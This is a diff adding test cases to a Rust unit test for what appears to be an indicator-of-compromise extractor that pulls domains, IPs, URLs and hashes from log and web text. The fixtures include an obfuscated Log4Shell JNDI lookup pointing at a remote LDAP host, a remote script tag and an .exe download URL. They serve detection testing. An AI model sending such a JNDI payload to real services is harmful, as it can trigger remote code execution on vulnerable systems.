@@ -162,6 +162,23 @@ fn texts_give_what_they_name() {
             "\"ja3\":{\"hash\":\"6407eab466f27556146fdaefcf768231\"} ja3s=6407eab466f27556146fdaefcf768232",
             "ja3=6407eab466f27556146fdaefcf768231 ja3=6407eab466f27556146fdaefcf768232",
         ),
+        ("type:  5 edge7.bad-cdn.net;::ffff:91.240.118.172;", "domain=edge7.bad-cdn.net ip=91.240.118.172"),
+        ("href=&quot;http://a.top/x&quot;&gt; %22http://b.top/y%22,", "url=http://a.top/x domain=a.top url=http://b.top/y domain=b.top"),
+        (
+            "http://a.top/d8757fb4e9ea07606d23a1ef5a4b8d4e.exe",
+            "url=http://a.top/d8757fb4e9ea07606d23a1ef5a4b8d4e.exe md5=d8757fb4e9ea07606d23a1ef5a4b8d4e domain=a.top",
+        ),
+        ("rv:109.1.2.3 12.4.3.2~rc1 import java.io; config.inc IP 2a0e:b107::1.443 >", "ip=2a0e:b107::1"),
+        (
+            "http://a.top,http://b.top;http://c.top",
+            "url=http://a.top domain=a.top url=http://b.top domain=b.top url=http://c.top domain=c.top",
+        ),
+        ("${jndi:${lower:l}${lower:d}ap://185.220.101.34:1389/x}", "ip=185.220.101.34"),
+        (
+            "H=(a.top) [45.155.205.233]:5 helo=b.top relay=c.top[185.220.101.34]:25",
+            "domain=a.top ip=45.155.205.233 domain=b.top domain=c.top ip=185.220.101.34",
+        ),
+        ("<script src=//a.top/x.js> url('//b.top/y')", "domain=a.top domain=b.top"),
     ];
     for (text, expected) in cases {
         assert_eq!(found(text), expected, "{text}");
